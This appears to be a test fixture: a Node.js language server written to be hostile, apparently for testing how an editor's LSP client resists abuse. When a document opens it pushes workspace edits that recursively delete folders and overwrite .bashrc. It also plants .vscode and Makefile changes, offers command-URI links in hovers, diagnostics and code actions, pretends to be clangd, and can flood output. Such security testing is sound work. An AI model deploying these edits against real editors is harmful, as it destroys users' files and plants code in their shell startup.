#!/usr/bin/env node
// A language server that is out to harm whoever edits with it. Beside it lies plan.json, with where that is and
// in which way it breaks the protocol; what each process is told goes to a record of its own, as each is another user.
import fs from 'node:fs';
import path from 'node:path';
import process from 'node:process';

const here = import.meta.dirname;
const plan = JSON.parse(fs.readFileSync(path.join(here, 'plan.json'), 'utf8'));
const record = (what) => {
  fs.appendFileSync(path.join(here, `record.${process.pid}`), `${JSON.stringify(what)}\n`);
};
if (process.argv.includes('--version')) {
  console.log('clangd version 14.0.6');
  process.exit();
}
record({ started: true });

const range = { start: { line: 0, character: 0 }, end: { line: 0, character: 3 } };
const edit = { range, newText: 'hostile' };
const harm = { title: 'Harm', command: plan.command, arguments: plan.arguments };
const capabilities = {
  textDocumentSync: { openClose: true, change: 2, save: true },
  hoverProvider: true,
  renameProvider: true,
  definitionProvider: true,
  codeActionProvider: true,
  codeLensProvider: { resolveProvider: false },
  documentLinkProvider: { resolveProvider: false },
  executeCommandProvider: { commands: [`${plan.name}.offered`] },
};

let next = 0;
const send = (message) => {
  const text = JSON.stringify({ jsonrpc: '2.0', ...message });
  process.stdout.write(`Content-Length: ${Buffer.byteLength(text)}\r\n\r\n${text}`);
};
const request = (method, params) => {
  send({ id: `${method} ${++next}`, method, params });
};

/** The folder's URI is known from that of the document. */
function attack(document) {
  const root = /^.*?\/src\/\d+/.exec(document)?.[0];
  // Its files are opened.
  if (root === undefined) return;
  const out = (name) => `${root}/${plan.victim}/${name}`;
  const changes = (...documentChanges) => {
    request('workspace/applyEdit', { edit: { documentChanges } });
  };
  for (const victim of [out(''), `file://${plan.absolute}`]) {
    changes({ kind: 'delete', uri: `${victim}/folder`, options: { recursive: true } });
    changes({
      kind: 'rename',
      oldUri: `${victim}/evil`,
      newUri: `${victim}/.bashrc`,
      options: { overwrite: true },
    });
    changes({ kind: 'create', uri: `${victim}/created`, options: { overwrite: true } });
    request('window/showDocument', { uri: `${victim}/.bashrc`, takeFocus: true });
  }
  changes({ kind: 'create', uri: `${root}/.vscode/made.json` });
  changes({ textDocument: { uri: `${root}/Makefile`, version: null }, edits: [edit] });
  changes({ textDocument: { uri: document, version: null }, edits: [edit] });
  request('workspace/configuration', { items: [{ section: plan.section }, {}] });
  request('workspace/workspaceFolders');
  request('client/registerCapability', {
    registrations: [
      {
        id: 'a',
        method: 'workspace/executeCommand',
        registerOptions: { commands: [`${plan.name}.registered`] },
      },
      {
        id: 'b',
        method: 'workspace/didChangeWatchedFiles',
        registerOptions: { watchers: [{ globPattern: '**' }] },
      },
    ],
  });
  send({
    method: 'window/showMessage',
    params: { type: 1, message: `[x](command:${plan.command})` },
  });
  send({
    method: 'textDocument/publishDiagnostics',
    params: {
      uri: document,
      diagnostics: [
        {
          range,
          message: plan.name,
          code: 'x',
          codeDescription: { href: `command:${plan.command}` },
        },
      ],
    },
  });
  // By now it has been answered, or is to be.
  request('window/workDoneProgress/create', { token: 'last' });
}

function answer(method, { textDocument }) {
  const uri = textDocument?.uri ?? '';
  switch (method) {
    case 'initialize':
      return { capabilities };
    case 'textDocument/hover':
      return {
        contents: {
          kind: 'markdown',
          value: `${plan.name} [x](command:${plan.command}) ![y](http://127.0.0.1/y) <img src="z">`,
        },
      };
    case 'textDocument/definition':
      return [{ uri: `${uri}/../../${plan.victim}/.bashrc`, range }];
    case 'textDocument/documentLink':
      return [
        { range, target: `command:${plan.command}` },
        { range, target: 'vscode://x.y/z' },
      ];
    case 'textDocument/codeLens':
      return [{ range, command: harm }];
    case 'textDocument/codeAction':
      return [{ title: 'Harm', kind: 'quickfix', command: harm }];
    case 'textDocument/rename':
      return {
        documentChanges: [
          { textDocument: { uri, version: null }, edits: [edit] },
          { kind: 'delete', uri: `file://${plan.absolute}/folder`, options: { recursive: true } },
        ],
      };
    default:
      return null;
  }
}

let text = '';
// A character for each byte, as lengths are in bytes.
process.stdin.setEncoding('latin1').on('data', (piece) => {
  text += piece;
  for (;;) {
    const found = /^Content-Length: (\d+)\r\n\r\n/.exec(text);
    if (found === null || text.length < found[0].length + Number(found[1])) return;
    const body = text.slice(found[0].length, found[0].length + Number(found[1]));
    text = text.slice(found[0].length + body.length);
    const message = JSON.parse(Buffer.from(body, 'latin1').toString());
    record(message);
    if (message.method === 'initialize' && plan.mode === 'endless') {
      // It does not look whether anybody reads.
      process.stdout.on('error', () => undefined);
      setInterval(() => process.stdout.write('x'.repeat(65_536)), 1);
    } else if (message.method !== undefined && message.id !== undefined) {
      send({ id: message.id, result: answer(message.method, message.params ?? {}) });
    } else if (message.method === 'textDocument/didOpen') {
      attack(message.params.textDocument.uri);
    } else if (message.method === 'exit') process.exit();
  }
});
